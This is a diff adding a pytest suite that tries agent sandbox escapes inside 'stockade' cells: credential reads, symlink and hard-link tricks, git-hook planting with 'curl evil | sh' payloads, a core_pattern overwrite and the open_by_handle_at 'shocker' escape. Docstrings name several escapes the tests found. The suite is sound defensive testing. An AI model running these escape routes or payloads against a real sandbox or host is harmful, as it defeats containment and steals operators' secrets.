@@ -1,0 +1,827 @@
+"""Filesystem escapes (THREATS.md, "Filesystem"), tried for real inside cells.
+
+Each test asserts (a) the attempt failed, with the errno the refusing layer
+gives, (b) the record says what was tried (layer, path, blockers), and (c) the
+legitimate neighbour still works. Where the refusing layer is one the kernel
+does not log (a read-only mount, a discretionary permission check, a path
+absent from the view, the VFS refusing a cross-mount link), the docstring says
+so and the test asserts the strongest evidence there is instead: the host is
+unchanged and nothing secret came out. Gaps that stockade itself could close
+go through ``expect_record(..., gap=...)``: the test is then an expected
+failure naming the gap, and fails outright once the record appears.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import errno
+import os
+from pathlib import Path
+
+import pytest
+
+from stockade.cell import Cell
+from stockade.errors import CellError
+from stockade.policy import Policy, default_policy
+from tests.escapes._fshost import (
+    CreationWatch,
+    canary,
+    fake_home,
+    read_only_grant,
+    snapshot,
+)
+from tests.escapes._probes import (
+    Attempt,
+    assert_landlock_denial,
+    assert_refused,
+    assert_seccomp_denial,
+    assert_works,
+    expect_record,
+    leaked,
+    run_probe,
+)
+
+EACCES, ENOENT, EPERM, EROFS, EBUSY, EXDEV, EBADF = (
+    errno.EACCES,
+    errno.ENOENT,
+    errno.EPERM,
+    errno.EROFS,
+    errno.EBUSY,
+    errno.EXDEV,
+    errno.EBADF,
+)
+
+GAP_MKNOD_IN_GRANT = (
+    "write grants include LANDLOCK_ACCESS_FS_MAKE_CHAR/MAKE_BLOCK (_landlock.RIGHTS_WRITE), so "
+    "Landlock lets mknod through and the missing CAP_MKNOD refuses it, unrecorded; drop those "
+    "two rights from write grants and Landlock refuses it with a record"
+)
+
+
+def _ws_root_owned(host_dir: Path, name: str = "ws") -> Path:
+    ws = host_dir / name
+    ws.mkdir()
+    return ws
+
+
+# ------------------------------------------------------------------ reading secrets
+
+
+SECRET_FILES = [
+    pytest.param("/etc/shadow", id="etc-shadow"),
+    pytest.param("~/.ssh/id_rsa", id="ssh-id_rsa"),
+    pytest.param("~/.ssh/id_ed25519", id="ssh-id_ed25519"),
+    pytest.param("~/.ssh/config", id="ssh-config"),
+    pytest.param("~/.ssh/authorized_keys", id="ssh-authorized_keys"),
+    pytest.param("~/.aws/credentials", id="aws-credentials"),
+]
+
+
+@pytest.mark.parametrize("target", SECRET_FILES)
+def test_read_host_secret(host_dir: Path, target: str) -> None:
+    """/etc/shadow, and the credentials in the caller's home (a temporary HOME
+    passed as the caller's environment, holding real files with a canary), are
+    decoys in the cell: same names, no content, refused by Landlock and
+    recorded under their path. The content never reaches the cell, its output
+    or the record. A system file under /etc still reads (the control)."""
+    secret = canary()
+    home = fake_home(host_dir, secret)
+    path = target.replace("~", str(home))
+    with Cell(default_policy(), environ={"HOME": str(home)}) as cell:
+        probe = run_probe(
+            cell,
+            [
+                Attempt("steal", f"return open({path!r}).read()"),
+                Attempt("control", "return open('/etc/os-release').read()[:4]"),
+            ],
+        )
+    assert_refused(probe["steal"], EACCES)
+    assert_landlock_denial(probe, path, "fs.read_file")
+    assert not leaked(probe, secret)
+    assert assert_works(probe["control"])
+
+
+def test_read_another_agents_workspace() -> None:
+    """Agent A writes a secret in its fresh workspace; agent B, in its own cell,
+    tries to read it by path and to list the workspaces. Fresh workspaces live
+    under /var/lib/stockade/workspaces, which B sees as a decoy: A's file is an
+    empty stand-in refused by Landlock (recorded), and so is the listing. B's
+    own workspace stays usable (the control)."""
+    secret = canary()
+    with Cell(default_policy(), environ={}) as a:
+        wrote = a.run(["/usr/bin/python3", "-c", f"open('secret.txt', 'w').write({secret!r})"])
+        assert wrote.exit_code == 0, wrote.stderr
+        stolen = os.path.join(a.workspace, "secret.txt")
+        with Cell(default_policy(), environ={}) as b:
+            probe = run_probe(
+                b,
+                [
+                    Attempt("steal", f"return open({stolen!r}).read()"),
+                    Attempt("list", "return os.listdir('/var/lib/stockade/workspaces')"),
+                    Attempt("control", "open('mine.txt', 'w').write('b'); return open('mine.txt').read()"),
+                ],
+            )
+    assert_refused(probe["steal"], EACCES)
+    assert_landlock_denial(probe, stolen, "fs.read_file")
+    assert_refused(probe["list"], EACCES)
+    assert_landlock_denial(probe, "/var/lib/stockade/workspaces", "fs.read_dir")
+    assert not leaked(probe, secret)
+    assert assert_works(probe["control"]) == "b"
+
+
+# ------------------------------------------------------------------ writing outside
+
+
+OUTSIDE = [
+    pytest.param("/escape.txt", "/", id="root"),
+    pytest.param("/etc/escape.txt", "/etc", id="etc"),
+    pytest.param("/usr/bin/escape", "/usr/bin", id="usr-bin"),
+    pytest.param("/var/lib/stockade/escape.txt", "/var/lib/stockade", id="stockade-state"),
+    pytest.param("/sys/kernel/escape", "/sys/kernel", id="sys-kernel"),
+]
+
+
+@pytest.mark.parametrize(("target", "directory"), OUTSIDE)
+def test_write_outside_the_workspace(cell: Cell, target: str, directory: str) -> None:
+    """Creating a file anywhere but the workspace and the cell's own /tmp is
+    refused by Landlock (fs.make_reg on the directory), and recorded; the file
+    appears nowhere on the host."""
+    probe = run_probe(
+        cell,
+        [
+            Attempt("escape", f"open({target!r}, 'w').write('x')"),
+            Attempt("workspace", "open('inside.txt', 'w').write('ok'); return os.getcwd()"),
+            Attempt("tmp", "open('/tmp/scratch', 'w').write('ok')"),
+        ],
+    )
+    assert_refused(probe["escape"], EACCES)
+    assert_landlock_denial(probe, directory, "fs.make_reg")
+    assert assert_works(probe["workspace"]) == cell.workspace
+    assert_works(probe["tmp"])
+    assert Path(cell.workspace, "inside.txt").read_text() == "ok"
+    assert not os.path.lexists(target)
+
+
+# Each operation is a probe body acting on the file F (and its directory D).
+READ_ONLY_OPS = {
+    "overwrite": "f = open(F, 'r+b'); f.write(b'defaced'); f.close()",
+    "truncate": "os.truncate(F, 0)",
+    "rename": "os.rename(F, F + '.moved')",
+    "delete": "os.unlink(F)",
+    "chmod": "os.chmod(F, 0o777)",
+}
+OP_BLOCKERS = {
+    "overwrite": ("file", "fs.write_file"),
+    "truncate": ("file", "fs.truncate"),
+    "rename": ("dir", "fs.remove_file"),
+    "delete": ("dir", "fs.remove_file"),
+    "chmod": None,  # Landlock has no right for chmod/chown/utimes (no setattr hook)
+}
+
+
+@pytest.mark.parametrize("op", READ_ONLY_OPS)
+def test_write_under_a_read_only_grant(host_dir: Path, op: str) -> None:
+    """A host directory shown read-only (``filesystem.read``) whose files are
+    world-writable, so that no discretionary check refuses first: every write
+    is refused by Landlock and recorded. chmod is the exception: Landlock has
+    no access right for it; it is refused by the discretionary check (EPERM,
+    not the file's owner) and the kernel records nothing. The file is unchanged
+    on the host in every case."""
+    grant = host_dir / "ro"
+    grant.mkdir(mode=0o777)
+    grant.chmod(0o777)
+    target = grant / "notes.txt"
+    target.write_text("original\n")
+    target.chmod(0o666)
+    before = snapshot(target)
+    policy = read_only_grant(default_policy("escapes"), grant)
+    with Cell(policy, environ={}) as cell:
+        probe = run_probe(
+            cell,
+            [
+                Attempt("attempt", f"F = {str(target)!r}\n{READ_ONLY_OPS[op]}"),
+                Attempt("control", f"return open({str(target)!r}).read()"),
+            ],
+        )
+    assert_refused(probe["attempt"], EPERM if op == "chmod" else EACCES)
+    assert assert_works(probe["control"]) == "original\n"
+    assert snapshot(target) == before
+    assert sorted(os.listdir(grant)) == ["notes.txt"]
+    blockers = OP_BLOCKERS[op]
+    if blockers is not None:
+        kind, blocker = blockers
+        assert_landlock_denial(probe, str(target) if kind == "file" else str(grant), blocker)
+
+
+@pytest.mark.parametrize("op", READ_ONLY_OPS)
+def test_write_under_a_read_only_system_path(cell: Cell, op: str) -> None:
+    """/etc/hosts, a root-owned system file in a read-only grant. rename and
+    delete meet Landlock first (its path hooks run before the permission check)
+    and are recorded. overwrite and truncate are refused by the discretionary
+    check on open/truncate, which runs before Landlock's file hooks: host root
+    is unmapped in the cell's user namespace, so the file is "other" to the
+    agent (EACCES) and the kernel records nothing. chmod: no Landlock right,
+    refused as not the owner (EPERM), unrecorded. /etc/hosts is unchanged."""
+    target = "/etc/hosts"
+    before = snapshot(Path(target))
+    probe = run_probe(
+        cell,
+        [
+            Attempt("attempt", f"F = {target!r}\n{READ_ONLY_OPS[op]}"),
+            Attempt("control", f"return len(open({target!r}).read()) >= 0"),
+        ],
+    )
+    assert_refused(probe["attempt"], EPERM if op == "chmod" else EACCES)
+    assert assert_works(probe["control"]) is True
+    assert snapshot(Path(target)) == before
+    if op in ("rename", "delete"):
+        assert_landlock_denial(probe, "/etc", "fs.remove_file")
+
+
+METADATA_OPS = {
+    "chmod-file": "os.chmod(F, 0o000)",
+    "chmod-dir": "os.chmod(D, 0o777)",
+    "utimes": "os.utime(F, (0, 0))",
+}
+
+
+@pytest.mark.parametrize("op", METADATA_OPS)
+def test_metadata_of_a_read_only_grant_the_agent_owns(host_dir: Path, op: str) -> None:
+    """A read-only grant whose files belong to the cell's own host identity (as
+    when a user runs stockade on their own files, or root runs it for a
+    workspace owned by that user). Landlock has no right covering chmod or
+    utimes, and the files are the agent's own, so nothing but a read-only mount
+    could refuse these: the directory and its file must be unchanged on the
+    host afterwards.
+
+    ESCAPE (found by this test): the grant is a plain bind (so that Landlock,
+    not a read-only mount, refuses writes), and chmod/utimes go through: the
+    agent can make a read-only host directory world-writable (0777) or lock
+    its owner out of a file (0000)."""
+    owner = 4242  # any unprivileged uid: the cell acts as the workspace's owner
+    ws = _ws_root_owned(host_dir)
+    grant = host_dir / "ro"
+    grant.mkdir()
+    target = grant / "notes.txt"
+    target.write_text("original\n")
+    for path in (ws, grant, target):
+        os.chown(path, owner, owner)
+    before = (snapshot(grant)[:3], snapshot(target))
+    policy = read_only_grant(default_policy("escapes"), grant)
+    with Cell(policy, workspace=ws, environ={}) as cell:
+        probe = run_probe(
+            cell,
+            [
+                Attempt("attempt", f"F = {str(target)!r}\nD = {str(grant)!r}\n{METADATA_OPS[op]}"),
+                Attempt("control", "open('mine.sh', 'w').write('#'); os.chmod('mine.sh', 0o755)"),
+            ],
+        )
+    assert_works(probe["control"])
+    after = (snapshot(grant)[:3], snapshot(target))
+    assert not probe["attempt"].ok and after == before, (
+        f"ESCAPE: {probe['attempt']}; the host's read-only {grant} went from {before} to {after}"
+    )
+
+
+# ------------------------------------------------------------------ symlinks and links
+
+
+SYMLINKS = {
+    "absolute": (
+        "os.symlink('/etc/shadow', 'planted')",
+        "return open('planted').read()",
+        "/etc/shadow",
+        "fs.read_file",
+    ),
+    "dotdot-chained": (
+        "os.symlink('../' * 24 + 'etc/shadow', 'planted')",
+        "return open('planted').read()",
+        "/etc/shadow",
+        "fs.read_file",
+    ),
+    "dangling-o-creat": (
+        "os.symlink('/etc/planted-by-agent', 'planted')",
+        "open('planted', 'w').write('x')",
+        "/etc",
+        "fs.make_reg",
+    ),
+    "dotdot-dangling-o-creat": (
+        "os.symlink('../' * 24 + 'usr/bin/planted-by-agent', 'planted')",
+        "fd = os.open('planted', os.O_WRONLY | os.O_CREAT, 0o755); os.close(fd)",
+        "/usr/bin",
+        "fs.make_reg",
+    ),
+}
+
+
+@pytest.mark.parametrize("kind", SYMLINKS)
+def test_symlink_planted_in_the_workspace(cell: Cell, kind: str) -> None:
+    """A symlink in the workspace that leads out of it resolves inside the
+    cell's own view: whatever it names there is refused by Landlock and
+    recorded under the resolved path. A link that stays inside the workspace
+    works (the control)."""
+    plant, use, path, blocker = SYMLINKS[kind]
+    probe = run_probe(
+        cell,
+        [
+            Attempt("plant", plant),
+            Attempt("escape", use),
+            Attempt(
+                "control",
+                "open('real.txt', 'w').write('in'); os.symlink('real.txt', 'inner')\n"
+                "open('inner', 'a').write('side'); return open('inner').read()",
+            ),
+        ],
+    )
+    assert_works(probe["plant"])
+    assert_refused(probe["escape"], EACCES)
+    assert_landlock_denial(probe, path, blocker)
+    assert assert_works(probe["control"]) == "inside"
+    assert not os.path.lexists("/etc/planted-by-agent")
+    assert not os.path.lexists("/usr/bin/planted-by-agent")
+
+
+def test_hard_link_to_a_file_outside(cell: Cell) -> None:
+    """``link('/etc/passwd', 'pw')`` and the same through /proc/self/fd with
+    AT_SYMLINK_FOLLOW: the workspace is a mount of its own, so the VFS refuses a
+    link across mounts (EXDEV) before any security hook runs; the kernel
+    records nothing. Evidence: no link appears in the host's workspace and
+    the host file's link count is unchanged. A hard link inside the workspace
+    works (the control)."""
+    nlink = os.stat("/etc/hosts").st_nlink
+    probe = run_probe(
+        cell,
+        [
+            Attempt("passwd", "os.link('/etc/passwd', 'pw')"),
+            Attempt("hosts", "os.link('/etc/hosts', 'hosts')"),
+            Attempt(
+                "via-fd",
+                "fd = os.open('/etc/hosts', os.O_RDONLY)\n"
+                "os.link(f'/proc/self/fd/{fd}', 'hosts-fd', follow_symlinks=True)",
+            ),
+            Attempt("control", "open('a', 'w').write('x'); os.link('a', 'b'); return os.stat('b').st_nlink"),
+        ],
+    )
+    for name in ("passwd", "hosts", "via-fd"):
+        assert_refused(probe[name], EXDEV)
+    assert assert_works(probe["control"]) == 2
+    assert not {"pw", "hosts", "hosts-fd"} & set(os.listdir(cell.workspace))
+    assert os.stat("/etc/hosts").st_nlink == nlink
+
+
+MKNOD = [
+    pytest.param("/dev/mem", "/dev", None, id="in-dev"),
+    pytest.param("mem", None, GAP_MKNOD_IN_GRANT, id="in-workspace"),
+]
+
+
+@pytest.mark.parametrize(("target", "directory", "gap"), MKNOD)
+def test_mknod_a_device(cell: Cell, target: str, directory: str | None, gap: str | None) -> None:
+    """mknod of /dev/mem's device (char 1:1). In /dev, Landlock refuses it
+    (fs.make_char) and records it. In the workspace Landlock allows it (write
+    grants include MAKE_CHAR) and the missing CAP_MKNOD refuses it, unrecorded
+    (GAP_MKNOD_IN_GRANT); the workspace is also mounted nodev, so such a node
+    could never be opened. A FIFO in the workspace still works (the control)."""
+    probe = run_probe(
+        cell,
+        [
+            Attempt("mknod", f"os.mknod({target!r}, stat.S_IFCHR | 0o666, os.makedev(1, 1))"),
+            Attempt("control", "os.mkfifo('pipe'); return stat.S_ISFIFO(os.stat('pipe').st_mode)"),
+        ],
+    )
+    assert_refused(probe["mknod"], EACCES if gap is None else EPERM)
+    assert assert_works(probe["control"]) is True
+    assert not os.path.lexists(os.path.join(cell.workspace, "mem"))
+    path = directory or cell.workspace
+    expect_record(probe, probe.landlock(path=path, blocker="fs.make_char"), "mknod", gap=gap)
+
+
+@pytest.mark.parametrize("directory", ["/etc", "/usr/bin", "/"])
+def test_mkfifo_outside_the_workspace(cell: Cell, directory: str) -> None:
+    """A FIFO outside the workspace is refused by Landlock (fs.make_fifo) and
+    recorded; one inside it works."""
+    target = os.path.join(directory, "escape-fifo")
+    probe = run_probe(
+        cell,
+        [
+            Attempt("mkfifo", f"os.mkfifo({target!r})"),
+            Attempt("control", "os.mkfifo('pipe'); return stat.S_ISFIFO(os.stat('pipe').st_mode)"),
+        ],
+    )
+    assert_refused(probe["mkfifo"], EACCES)
+    assert_landlock_denial(probe, directory, "fs.make_fifo")
+    assert assert_works(probe["control"]) is True
+    assert not os.path.lexists(target)
+
+
+# ------------------------------------------------------------------ /proc and the view
+
+
+def test_proc_self_root(cell: Cell) -> None:
+    """/proc/self/root is the cell's own root: /etc/shadow through it is the
+    decoy, refused by Landlock and recorded under its path in the view."""
+    probe = run_probe(
+        cell,
+        [
+            Attempt("escape", "return open('/proc/self/root/etc/shadow').read()"),
+            Attempt(
+                "control",
+                "return [os.readlink('/proc/self/root'), open('/proc/self/root/etc/hostname').read()]",
+            ),
+        ],
+    )
+    assert_refused(probe["escape"], EACCES)
+    assert_landlock_denial(probe, "/etc/shadow", "fs.read_file")
+    assert assert_works(probe["control"]) == ["/", "stockade\n"]
+
+
+def test_proc_self_cwd(cell: Cell) -> None:
+    """/proc/self/cwd is the workspace; climbing out of it with .. stays in
+    the cell's view, where /etc/shadow is the decoy (Landlock, recorded)."""
+    probe = run_probe(
+        cell,
+        [
+            Attempt("escape", "return open('/proc/self/cwd/' + '../' * 24 + 'etc/shadow').read()"),
+            Attempt(
+                "control", "open('here.txt', 'w').write('ws'); return open('/proc/self/cwd/here.txt').read()"
+            ),
+        ],
+    )
+    assert_refused(probe["escape"], EACCES)
+    assert_landlock_denial(probe, "/etc/shadow", "fs.read_file")
+    assert assert_works(probe["control"]) == "ws"
+
+
+def test_proc_pid_root_of_a_host_process(cell: Cell, host_dir: Path) -> None:
+    """/proc/<pid>/root of a host process (this test's own process, whose root
+    is the host's /): the cell has a pid namespace and a proc of its own, so
+    that pid does not exist there (ENOENT); no security layer is asked, and the
+    kernel records nothing. Evidence: a host file is unreachable through it, and
+    the cell's /proc lists only the cell's pid 1."""
+    secret = canary()
+    (host_dir / "secret.txt").write_text(secret)
+    host_pid = os.getpid()
+    probe = run_probe(
+        cell,
+        [
+            Attempt("escape", f"return open('/proc/{host_pid}/root{host_dir}/secret.txt').read()"),
+            Attempt("readlink", f"return os.readlink('/proc/{host_pid}/root')"),
+            Attempt("pids", "return sorted(int(p) for p in os.listdir('/proc') if p.isdigit())"),
+            Attempt("control", "return os.readlink('/proc/1/root')"),
+        ],
+    )
+    assert host_pid > 1
+    assert_refused(probe["escape"], ENOENT)
+    assert_refused(probe["readlink"], ENOENT)
+    assert not leaked(probe, secret)
+    assert assert_works(probe["pids"]) == [1]
+    assert assert_works(probe["control"]) == "/"
+
+
+# ------------------------------------------------------------------ protected files
+
+
+PROTECTED = [".git/hooks/pre-commit", ".git/config", ".bashrc", ".profile", ".mcp.json", "policy.yaml"]
+
+
+def _protected_workspace(host_dir: Path, present: bool) -> tuple[Path, Policy]:
+    """A root-owned workspace (idmapped in the cell) and the default policy
+    loaded from ``policy.yaml`` inside it (``Policy.source``)."""
+    ws = _ws_root_owned(host_dir)
+    (ws / ".git").mkdir()
+    (ws / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    if present:
+        (ws / ".git" / "hooks").mkdir()
+        for rel in PROTECTED:
+            (ws / rel).write_text(f"original {rel}\n")
+    policy = dataclasses.replace(default_policy("escapes"), source=str(ws / "policy.yaml"))
+    return ws, policy
+
+
+@pytest.mark.parametrize("present", [False, True], ids=["absent", "present"])
+@pytest.mark.parametrize("rel", PROTECTED)
+def test_protected_file_in_the_workspace(host_dir: Path, rel: str, present: bool) -> None:
+    """Protected paths (default ``filesystem.protect`` and the policy file
+    itself) are read-only mounts inside the writable workspace, placed even
+    when the file does not exist yet. Writing, deleting or renaming over one
+    fails: EROFS for a write (the read-only mount refuses in mnt_want_write,
+    before any security hook, so the kernel records nothing), EBUSY for
+    unlink/rename (it is a mount point) or EXDEV for a rename into a pinned
+    directory (another mount); the VFS refuses those, unrecorded. Evidence:
+    the host file is unchanged (or still absent) after the run. The file next
+    to it stays writable (the control)."""
+    ws, policy = _protected_workspace(host_dir, present)
+    target = ws / rel
+    before = snapshot(target) if present else None
+    with Cell(policy, workspace=ws, environ={}) as cell:
+        probe = run_probe(
+            cell,
+            [
+                Attempt("write", f"open({rel!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n')"),
+                Attempt("delete", f"os.unlink({rel!r})"),
+                Attempt("replace", f"open('payload', 'w').write('evil'); os.rename('payload', {rel!r})"),
+                Attempt(
+                    "control",
+                    "open('.git/HEAD', 'a').write('#'); open('notes.txt', 'w').write('ok'); return True",
+                ),
+            ],
+        )
+    assert_refused(probe["write"], EROFS)
+    assert_refused(probe["delete"], EBUSY, EROFS)
+    assert_refused(probe["replace"], EBUSY, EROFS, EXDEV)
+    assert assert_works(probe["control"]) is True
+    if present:
+        assert snapshot(target) == before
+    else:
+        assert not os.path.lexists(target), f"{rel} was left behind on the host"
+    assert (ws / ".git" / "HEAD").read_text().endswith("#")
+
+
+@pytest.mark.parametrize("present", [False, True], ids=["absent", "present"])
+@pytest.mark.parametrize("parent", [".git", ".git/hooks"])
+def test_rename_of_a_protected_parent(host_dir: Path, parent: str, present: bool) -> None:
+    """Renaming the directory that holds a protected path (to put a fresh,
+    writable one in its place) fails with EBUSY: every directory between the
+    workspace and a protected path is a mount point. The VFS refuses, so the
+    kernel records nothing. Evidence: no hook was planted on the host. An
+    ordinary directory renames fine (the control)."""
+    ws, policy = _protected_workspace(host_dir, present)
+    with Cell(policy, workspace=ws, environ={}) as cell:
+        probe = run_probe(
+            cell,
+            [
+                Attempt("rename", f"os.rename({parent!r}, {parent + '-moved'!r})"),
+                Attempt(
+                    "plant",
+                    "os.makedirs('.git/hooks', exist_ok=True)\n"
+                    "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\nevil\\n')",
+                ),
+                Attempt("control", "os.mkdir('src'); os.rename('src', 'lib'); return os.path.isdir('lib')"),
+            ],
+        )
+    assert_refused(probe["rename"], EBUSY)
+    assert_refused(probe["plant"], EROFS)
+    assert assert_works(probe["control"]) is True
+    hook = ws / ".git" / "hooks" / "pre-commit"
+    assert (hook.read_text() == "original .git/hooks/pre-commit\n") if present else not hook.exists()
+    assert not (ws / f"{parent}-moved").exists()
+
+
+@pytest.mark.parametrize("rel", [".mcp.json", ".bashrc"])
+def test_protected_file_that_is_a_symlink_into_the_workspace(host_dir: Path, rel: str) -> None:
+    """A protected name that is a symlink to an ordinary file of the workspace
+    (as a cloned repository may hold: ``.mcp.json -> config/mcp.json``). The
+    operator's tools follow the link, so writing through it must be refused
+    like writing the protected file itself.
+
+    ESCAPE (found by this test): ``_plan._protect`` skips a protected path
+    that is a symlink ("a link out of the workspace leads only to what the
+    view shows"), but a link *into* the workspace leads to a writable file:
+    the agent rewrites what the operator's shell or MCP client will load."""
+    ws = _ws_root_owned(host_dir)
+    (ws / "config").mkdir()
+    real = ws / "config" / "real"
+    real.write_text("original\n")
+    (ws / rel).symlink_to("config/real")
+    with Cell(default_policy("escapes"), workspace=ws, environ={}) as cell:
+        probe = run_probe(
+            cell,
+            [
+                Attempt("write", f"open({rel!r}, 'w').write('evil\\n')"),
+                Attempt("control", "open('notes.txt', 'w').write('ok'); return True"),
+            ],
+        )
+    assert assert_works(probe["control"]) is True
+    assert real.read_text() == "original\n" and not probe["write"].ok, (
+        f"ESCAPE: {probe['write']}; {rel} (-> config/real) now reads {real.read_text()!r} on the host"
+    )
+
+
+def test_git_dir_that_is_a_symlink_cannot_be_swapped(host_dir: Path) -> None:
+    """A workspace whose ``.git`` is a symlink to a directory inside it (a
+    layout some tools make). The bind mounts of the protection follow the link
+    and pin its target, but the link itself is no mount point: the agent can
+    replace it with a link to a directory of its own holding a hook.
+
+    ESCAPE (found by this test): ``.git -> evil`` with ``evil/hooks/pre-commit``
+    written by the agent; the operator's next ``git commit`` runs it."""
+    ws = _ws_root_owned(host_dir)
+    (ws / "gitdir" / "hooks").mkdir(parents=True)
+    (ws / "gitdir" / "HEAD").write_text("ref: refs/heads/main\n")
+    (ws / ".git").symlink_to("gitdir")
+    with Cell(default_policy("escapes"), workspace=ws, environ={}) as cell:
+        probe = run_probe(
+            cell,
+            [
+                Attempt("direct", "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\nevil\\n')"),
+                Attempt(
+                    "swap",
+                    "os.makedirs('evil/hooks')\n"
+                    "open('evil/hooks/pre-commit', 'w').write('#!/bin/sh\\nevil\\n')\n"
+                    "os.chmod('evil/hooks/pre-commit', 0o755)\n"
+                    "os.unlink('.git'); os.symlink('evil', '.git')",
+                ),
+            ],
+        )
+    assert_refused(probe["direct"], EROFS)
+    hook = ws / ".git" / "hooks" / "pre-commit"
+    assert not hook.exists(), (
+        f"ESCAPE: {probe['swap']}; the host's {ws}/.git now leads to {os.path.realpath(ws / '.git')} "
+        "with an agent-written pre-commit hook"
+    )
+
+
+def test_protection_placeholders_stay_inside_the_workspace(host_dir: Path) -> None:
+    """Before a cell starts, stockade (as host root) creates the protected
+    paths that do not exist yet. A workspace whose ``.git`` is a symlink out
+    of it (left by an earlier run under another policy, or by a cloned tree)
+    must not steer those creations: nothing may be created outside the
+    workspace, even for a moment. Refusing to start the cell is acceptable.
+
+    ESCAPE (found by this test): ``_create_placeholders`` follows the link and
+    creates ``config`` (a file) and ``hooks`` (a directory) as root in the
+    link's target, an arbitrary host directory, then removes them after the
+    run if they are still empty."""
+    ws = _ws_root_owned(host_dir)
+    outside = host_dir / "outside"
+    outside.mkdir()
+    (ws / ".git").symlink_to("../outside")
+    with CreationWatch(outside) as watch, Cell(default_policy("escapes"), workspace=ws, environ={}) as cell:
+        try:
+            cell.run(["/usr/bin/python3", "-c", "pass"])
+        except CellError:
+            pass  # refusing such a workspace is fine
+        created = watch.created()
+    assert created == [], f"ESCAPE: stockade created {created} in {outside}, outside the workspace {ws}"
+
+
+# ------------------------------------------------------------------ kernel interfaces
+
+
+def test_open_by_handle_at(cell: Cell) -> None:
+    """The "shocker" escape: open a file by handle, around the mount view.
+    name_to_handle_at and open_by_handle_at are refused by seccomp (EPERM),
+    each recorded. Opening by path still works (the control)."""
+    probe = run_probe(
+        cell,
+        [
+            Attempt(
+                "name_to_handle_at",
+                "buf = ctypes.create_string_buffer(8 + 128); buf[0:4] = (128).to_bytes(4, 'little')\n"
+                "mount_id = ctypes.c_int()\n"
+                "sys_call('name_to_handle_at', -100, b'/etc/hostname', buf, ctypes.byref(mount_id), 0)",
+            ),
+            Attempt(
+                "open_by_handle_at",
+                # shocker's handle: an ext4 file handle (type 1) for inode 2, the root.
+                "h = (8).to_bytes(4, 'little') + (1).to_bytes(4, 'little', signed=True)"
+                " + (2).to_bytes(4, 'little') + bytes(4)\n"
+                "fd = os.open('/etc', os.O_RDONLY)\n"
+                "sys_call('open_by_handle_at', fd, ctypes.create_string_buffer(h, len(h)), os.O_RDONLY)",
+            ),
+            Attempt("control", "return open('/etc/hostname').read()"),
+        ],
+    )
+    for name in ("name_to_handle_at", "open_by_handle_at"):
+        assert_refused(probe[name], EPERM)
+        assert_seccomp_denial(probe, name)
+    assert assert_works(probe["control"]) == "stockade\n"
+
+
+def test_dev_mem(cell: Cell) -> None:
+    """/dev/mem is not in the cell's /dev (only null, zero, full, random,
+    urandom, tty, pts, ptmx, shm): opening it is ENOENT, which no layer
+    decides and the kernel does not record (and this host has no /dev/mem).
+    Making it with mknod is refused by Landlock (fs.make_char on /dev) and
+    recorded. /dev/null still works (the control)."""
+    probe = run_probe(
+        cell,
+        [
+            Attempt("open", "return open('/dev/mem', 'rb').read(16)"),
+            Attempt("mknod", "os.mknod('/dev/mem', stat.S_IFCHR | 0o666, os.makedev(1, 1))"),
+            Attempt("control", "open('/dev/null', 'w').write('x'); return os.path.exists('/dev/mem')"),
+        ],
+    )
+    assert_refused(probe["open"], ENOENT)
+    assert_refused(probe["mknod"], EACCES)
+    assert_landlock_denial(probe, "/dev", "fs.make_char")
+    assert assert_works(probe["control"]) is False
+
+
+def test_proc_kcore(cell: Cell) -> None:
+    """/proc/kcore (and the /dev/core link to it). On this kernel it does not
+    exist at all (CONFIG_PROC_KCORE is off: ENOENT); where it exists it is
+    0400 root, and host root is unmapped in the cell, so the discretionary
+    check refuses (EACCES) before CAP_SYS_RAWIO is even asked. Neither is
+    recorded by the kernel. /proc/self/status still reads (the control)."""
+    probe = run_probe(
+        cell,
+        [
+            Attempt("kcore", "return len(open('/proc/kcore', 'rb').read(64))"),
+            Attempt("dev-core", "return len(open('/dev/core', 'rb').read(64))"),
+            Attempt("control", "return open('/proc/self/status').read().startswith('Name:')"),
+        ],
+    )
+    expected = (ENOENT,) if not os.path.exists("/proc/kcore") else (EACCES, EPERM)
+    assert_refused(probe["kcore"], *expected)
+    assert_refused(probe["dev-core"], *expected)
+    assert assert_works(probe["control"]) is True
+
+
+_SYS_KNOBS = ("/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/uevent_helper", "/sys/power/state")
+
+
+def test_sys_writes(cell: Cell) -> None:
+    """/sys is the host's, read-only by Landlock. Creating anything in it
+    (a new cgroup, a file) meets Landlock's path hooks and is recorded. Writing
+    an existing attribute is refused by the discretionary check first (root's
+    files, root unmapped: EACCES), which the kernel does not record; evidence:
+    the host's value is unchanged. Reading /sys still works (the control)."""
+    knob = next(k for k in _SYS_KNOBS if os.path.exists(k))
+    before = Path(knob).read_bytes()
+    probe = run_probe(
+        cell,
+        [
+            Attempt("write", f"open({knob!r}, 'w').write('never')"),
+            Attempt("mkdir", "os.mkdir('/sys/kernel/escape')"),
+            Attempt("control", f"return len(open({knob!r}).read()) > 0"),
+        ],
+    )
+    assert_refused(probe["write"], EACCES)
+    assert_refused(probe["mkdir"], EACCES)
+    assert_landlock_denial(probe, "/sys/kernel", "fs.make_dir")
+    assert assert_works(probe["control"]) is True
+    assert Path(knob).read_bytes() == before
+
+
+def test_proc_sys_kernel_core_pattern(cell: Cell) -> None:
+    """core_pattern names a program the host kernel runs as root on a crash.
+    /proc/sys is bind-mounted read-only in the cell, so the write fails with
+    EROFS before any security hook (and, without that mount, the discretionary
+    check would refuse: root's file, root unmapped); the kernel records
+    nothing. Evidence: the host's value is unchanged. Reading it works."""
+    before = Path("/proc/sys/kernel/core_pattern").read_bytes()
+    probe = run_probe(
+        cell,
+        [
+            Attempt("write", "open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/evil')"),
+            Attempt("control", "return open('/proc/sys/kernel/core_pattern').read()"),
+        ],
+    )
+    assert_refused(probe["write"], EROFS, EACCES)
+    assert assert_works(probe["control"]).encode() == before
+    assert Path("/proc/sys/kernel/core_pattern").read_bytes() == before
+
+
+def test_file_descriptors_inherited_from_the_launcher(cell: Cell, host_dir: Path) -> None:
+    """Descriptors the launching process holds without O_CLOEXEC (a host file
+    and a host directory, the classic fd-leak escape through openat) are
+    closed before the cell's command starts: EBADF, no layer asked, nothing
+    recorded. Evidence: the cell's /proc/self/fd holds only 0, 1 and 2."""
+    secret = canary()
+    (host_dir / "secret.txt").write_text(secret)
+    file_fd = os.open(host_dir / "secret.txt", os.O_RDONLY)
